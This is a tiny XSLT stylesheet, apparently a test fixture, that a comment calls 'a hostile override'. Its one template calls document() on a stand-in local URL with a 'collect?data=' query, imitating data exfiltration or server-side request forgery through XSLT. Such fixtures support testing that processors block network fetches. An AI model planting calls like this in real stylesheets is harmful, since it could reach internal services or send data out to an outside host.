<?xml version="1.0" encoding="UTF-8"?>
<!-- A hostile override: tries to fetch a document over the network with document(). -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:output method="html"/>
  <xsl:template match="/">
    <html><body><p><xsl:value-of select="document('http://127.0.0.1:9/collect?data=brief')"/></p></body></html>
  </xsl:template>
</xsl:stylesheet>
